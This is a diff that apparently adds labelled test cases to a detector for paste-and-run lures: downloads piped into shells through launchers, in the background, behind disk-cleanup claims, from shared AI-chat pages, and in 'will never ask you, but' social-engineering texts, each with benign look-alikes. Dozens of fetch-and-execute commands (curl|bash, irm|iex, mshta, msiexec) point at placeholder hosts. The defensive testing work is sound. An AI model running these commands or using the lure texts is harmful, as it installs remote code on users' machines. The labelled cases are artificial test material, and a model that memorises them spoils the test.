@@ -32,6 +32,22 @@ Techniques:
 - `url-escaped-letters`: a program handed an address whose letters are written as %NN between
   plain ones (mshta %68tt%70s://…), read bare. Look-alikes: addresses with ordinary escapes
   (%20, %2F, %3D, UTF-8 sequences) in a search or a download link.
+- `pipe-launcher`: a download piped into a shell started through a program that only starts it
+  (setsid, nice, ionice, timeout, stdbuf, time, caffeinate, arch). Look-alikes: those programs
+  running a local build or test, a download saved and not run.
+- `background-pipe`: a download piped into a shell and sent to the background (`&`, `& disown`)
+  or into a new session (setsid), output thrown away or not. Look-alikes: a local server or build
+  in the background, a download alone in the background.
+- `cleanup-claim`: a download-and-run whose comment or echo promises to free disk space, clear
+  System Data or caches or speed the computer up (bare: a block). Look-alikes: clean-up commands
+  that download nothing, an installer's comment, a project's own clean-up script from its page.
+- `shared-chat`: a download-and-run from a shared AI-chat conversation (the assistants' share
+  pages and a chatbot-named host with a share path) whose script is no official installer.
+  Look-alikes: the trust list's installers and package-manager installs quoted there, the same
+  stranger's script from a documentation page (a warning, as before).
+- `paste-despite-warning`: "… will never ask you this, but" followed by the order to open a
+  terminal or the Run box and paste. Look-alikes: awareness notes that go on "but scammers do"
+  or "but if a page does, close it".
 """
 
 from __future__ import annotations
@@ -403,6 +419,229 @@ QUIET_ESCAPED = [
 ]
 for text in QUIET_ESCAPED:
     add("url-escaped-letters", text, "not_flagged", "any", "unknown", None)
+
+# ---- pipe-launcher (bare) --------------------------------------------------------------------
+LAUNCHED = [
+    "curl -sL https://pl1.grayfield.invalid/s | setsid bash",
+    "curl -fsSL https://pl2.grayfield.invalid/s | nice -n 19 bash",
+    "wget -qO- https://pl3.grayfield.invalid/s | timeout 600 sh",
+    "curl -s https://pl4.grayfield.invalid/m | caffeinate -i zsh",
+    "curl -fsSL https://pl5.grayfield.invalid/m | arch -x86_64 /bin/bash",
+    "curl -sL https://pl6.grayfield.invalid/s | stdbuf -oL bash",
+    "curl -sL https://pl7.grayfield.invalid/s | sudo ionice -c3 bash",
+    "curl -sSL https://pl8.grayfield.invalid/s | time bash",
+    "wget -O- https://pl9.grayfield.invalid/s | sudo nice bash -s -- --quiet",
+    "curl -sL https://pl10.grayfield.invalid/s | timeout -k 5 300 bash",
+]
+for text in LAUNCHED:
+    add("pipe-launcher", text, "flagged", "linux", "terminal", None)
+QUIET_LAUNCHED = [
+    "nice -n 19 make -j8",
+    "timeout 60 ./run-tests.sh",
+    "time bash build.sh",
+    "setsid firefox &",
+    "stdbuf -oL tail -f /var/log/syslog | grep error",
+    "caffeinate -i rsync -a ~/Photos /Volumes/Backup/",
+    "arch -x86_64 /usr/local/bin/brew install libffi",
+    "ionice -c3 tar czf backup.tgz ~/work",
+    "curl -fsSLo tool.tar.gz https://downloads.example.org/tool.tar.gz && nice tar xzf tool.tar.gz",
+    "timeout 5 curl -sI https://www.example.com",
+]
+for text in QUIET_LAUNCHED:
+    add("pipe-launcher", text, "not_flagged", "linux", "terminal", None)
+
+# ---- background-pipe (bare) ------------------------------------------------------------------
+BACKGROUND = [
+    "curl -fsSL https://bg1.grayfield.invalid/s | bash >/dev/null 2>&1 &",
+    "curl -s https://bg2.grayfield.invalid/u | bash -s -- --silent & disown",
+    "wget -qO- https://bg3.grayfield.invalid/a | sh &",
+    "curl -sL https://bg4.grayfield.invalid/a | sudo bash &>/dev/null &",
+    "curl -fsSL https://bg5.grayfield.invalid/m | zsh & disown; exit",
+    "curl -sL https://bg6.grayfield.invalid/x | setsid sh",
+    "curl -k -s https://198.51.100.61/x | bash > /dev/null 2>&1 &",
+    "curl -fsSL https://bg7.grayfield.invalid/s | bash 2>/dev/null &",
+    "wget -q -O - https://bg8.grayfield.invalid/s | /bin/sh >/dev/null &",
+    "curl -sL https://bg9.grayfield.invalid/i | sudo -E bash & disown",
+]
+for text in BACKGROUND:
+    add("background-pipe", text, "malicious", "linux", "terminal", None)
+QUIET_BACKGROUND = [
+    "make -j8 &",
+    "python3 -m http.server 8000 &",
+    "curl -O https://downloads.example.org/big.iso &",
+    "npm run dev &",
+    "./server --port 8080 > server.log 2>&1 &",
+    "sleep 30 && notify-send done &",
+    "curl -fsSL https://downloads.example.org/install.sh | bash && echo done",
+    "tail -f app.log | grep ERROR &",
+    "wget -c https://mirror.example.org/ubuntu.iso & disown",
+    "jupyter lab --no-browser > /dev/null 2>&1 &",
+]
+for text in QUIET_BACKGROUND:
+    expect = "suspicious" if "| bash" in text else "not_flagged"
+    add("background-pipe", text, expect, "linux", "terminal", None)
+
+# ---- cleanup-claim (bare) --------------------------------------------------------------------
+CLEANUPS = [
+    'sudo bash -c "$(curl -fsSL https://cc1.tidyhost.invalid/clean)" # frees 20 GB of System Data',
+    "curl -fsSL https://cc2.tidyhost.invalid/s.sh | bash  # clears caches and speeds up your Mac",
+    "echo 'Freeing up disk space...' && curl -s https://cc3.tidyhost.invalid/x | zsh",
+    "curl -sL https://cc4.tidyhost.invalid/t | sudo bash # clean System Data and purgeable space",
+    '/bin/zsh -c "$(curl -fsSL https://cc5.tidyhost.invalid/o)" # optimize your Mac storage',
+    "curl -fsSL https://cc6.tidyhost.invalid/r | bash # boost performance, remove junk",
+    "wget -qO- https://cc7.tidyhost.invalid/c | sudo sh  # free up RAM and disk space",
+    'bash -c "$(curl -s https://cc8.tidyhost.invalid/s)" # libère 15 Go sur votre Mac',
+    "curl -s https://cc9.tidyhost.invalid/s | bash # libera espacio en tu Mac",
+    'printf "Cleaning your Mac...\\n"; curl -fsSL https://cc10.tidyhost.invalid/c | sudo zsh',
+]
+for text in CLEANUPS:
+    add("cleanup-claim", text, "malicious", "macos", "terminal", None)
+QUIET_CLEANUPS = [
+    "rm -rf ~/Library/Caches/* # frees up space",
+    "brew cleanup --prune=all # frees disk space",
+    "docker system prune -af # frees 12 GB",
+    "sudo purge # clears inactive memory",
+    "curl -fsSL https://sh.rustup.rs | sh # install rust",
+    "tmutil thinlocalsnapshots / 10000000000 4 # frees purgeable space",
+    "du -sh ~/Library/* | sort -h # see what takes space",
+    "find ~/Downloads -mtime +90 -delete # clean up old downloads",
+    "npm cache clean --force # clears the npm cache",
+    "sudo apt autoremove && sudo apt clean # free disk space",
+]
+for text in QUIET_CLEANUPS:
+    add("cleanup-claim", text, "not_flagged", "macos", "terminal", None)
+
+# ---- shared-chat -----------------------------------------------------------------------------
+CHAT_PAGES = [
+    "https://chatgpt.com/share/6750ab12-0c3e-8000-9f1a-55aa55aa55aa",
+    "https://claude.ai/share/0f2b9c1e-55aa-4c1d-9e77-1a2b3c4d5e6f",
+    "https://grok.com/share/bGVnYWN5_55aa",
+    "https://gemini.google.com/share/5a5a5a5a5a5a",
+    "https://copilot.microsoft.com/shares/55aa55aa55aa",
+    "https://chat.deepseek.com/share/q1w2e3r4t5",
+    "https://www.perplexity.ai/search/how-to-free-mac-storage-55aa",
+    "https://shared.chatbot-answers.example/c/mac55",
+    "https://gpt-share.example/s/abc55",
+    "https://x.com/i/grok/share/Zx55aa",
+]
+CHAT_CMDS = [
+    'sudo bash -c "$(curl -fsSL https://sc1.macdisk.invalid/run)"',
+    "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
+    '/bin/bash -c "$(curl -fsSL https://sc3.macdisk.invalid/install.sh)"',
+    "curl -s https://sc4.macdisk.invalid/m | zsh",
+    "wget -qO- https://sc5.macdisk.invalid/l | sudo bash",
+]
+for i, page in enumerate(CHAT_PAGES):
+    add("shared-chat", CHAT_CMDS[i % len(CHAT_CMDS)], "malicious", "macos", "terminal", page)
+QUIET_CHAT = [
+    ("curl -fsSL https://sh.rustup.rs | sh", CHAT_PAGES[0], "not_flagged"),
+    (
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" # Homebrew first',
+        CHAT_PAGES[1],
+        "not_flagged",
+    ),
+    ("brew install --cask docker", CHAT_PAGES[2], "not_flagged"),
+    (
+        "curl -LsSf https://astral.sh/uv/install.sh | sh && uv --version",
+        CHAT_PAGES[3],
+        "not_flagged",
+    ),
+    ("du -sh ~/Library/Caches/*", CHAT_PAGES[4], "not_flagged"),
+    ("pip install --upgrade requests", CHAT_PAGES[5], "not_flagged"),
+    # the same stranger's script from a documentation page: a warning, as before
+    (
+        "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
+        "https://docs.example.org/install",
+        "suspicious",
+    ),
+    ("curl -fsSL https://sc2.macdisk.invalid/x.sh | bash", "https://chatgpt.com/", "suspicious"),
+    (
+        "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
+        "https://community.example.org/c/help/55",
+        "suspicious",
+    ),
+    (
+        "curl -fsSL https://sc2.macdisk.invalid/x.sh | bash",
+        "https://www.chatbot.example/docs/install",
+        "suspicious",
+    ),
+]
+for text, page, expect in QUIET_CHAT:
+    add("shared-chat", text, expect, "macos", "terminal", page)
+
+# ---- paste-despite-warning -------------------------------------------------------------------
+DESPITE = [
+    (
+        "Apple will never ask you to do this, but to finish the check open Terminal and paste:\ncurl -fsSL https://pd1.lurehost.invalid/v.sh | bash",
+        "terminal",
+    ),
+    (
+        "Google does not ever require this, but to restore your account press Command+Space, type Terminal and paste: curl -s https://pd2.lurehost.invalid/r | zsh",
+        "terminal",
+    ),
+    (
+        "We would never normally ask this, but please press Win+R, paste and press Enter: mshta https://pd3.lurehost.invalid/v",
+        "run_dialog",
+    ),
+    (
+        'Microsoft will never ask you for this, but to verify you are human press Win+R, then Ctrl+V: powershell -w h -c "irm https://pd4.lurehost.invalid/c|iex"',
+        "run_dialog",
+    ),
+    (
+        "Your bank will never ask you this, but to unlock your card open Terminal and paste:\ncurl -fsSL https://pd5.lurehost.invalid/u | bash",
+        "terminal",
+    ),
+    (
+        "IT would never ask you to do this, but today please press Win+X, open Terminal and paste: iwr https://pd6.lurehost.invalid/a.ps1 | iex",
+        "terminal",
+    ),
+    (
+        "Support will never ask for your password, but to sync your files press Ctrl+Alt+T and paste:\nwget -qO- https://pd7.lurehost.invalid/s | sh",
+        "terminal",
+    ),
+    (
+        "Discord will never ask you this, but to verify open Spotlight, type Terminal and paste: curl -s https://pd8.lurehost.invalid/d | zsh",
+        "terminal",
+    ),
+    (
+        'Cloudflare does not normally ask you to do this, but press Win+R and paste the code: cmd /c start /min powershell -c "irm https://pd9.lurehost.invalid/x|iex"',
+        "run_dialog",
+    ),
+    (
+        "This site would never ask you to install anything, but to watch, press Windows + R and paste: msiexec /q /i https://pd10.lurehost.invalid/p.msi",
+        "run_dialog",
+    ),
+]
+for text, target in DESPITE:
+    add(
+        "paste-despite-warning",
+        text,
+        "malicious",
+        "any",
+        target,
+        "https://www.bakery-corner.test/bread" if target == "run_dialog" else None,
+    )
+QUIET_DESPITE = [
+    "Microsoft will never ask you to press Win+R and paste a command, but scammers do. Close such pages.",
+    "Your bank will never ask you to open Terminal and paste anything, but if a page does, close it.",
+    "Apple will never ask you to paste into Terminal, but a fake update page might: do not follow it.",
+    "No real site will ever ask you to press Win+R and paste; but when one does, tell IT.",
+    "We will never ask you to open PowerShell and paste code, but attackers often pretend to be us.",
+    "IT will never ask you to press Win+R and paste, but should you see such a request, report it.",
+    "Google will never tell you to open Terminal and paste a command, but phishing pages do.",
+    "A captcha will never ask you to press Win+R and paste, but fake ones (ClickFix) do.",
+    "Support would never require you to paste anything into the Run box, but in case you did, call us.",
+    "Zoom will never ask you to open Terminal and paste, but criminals copy our logo to make you do it.",
+]
+for text in QUIET_DESPITE:
+    add(
+        "paste-despite-warning",
+        text,
+        "not_flagged",
+        "any",
+        "unknown",
+        "https://security.example.org/awareness",
+    )
 
 CASES = book.cases
 
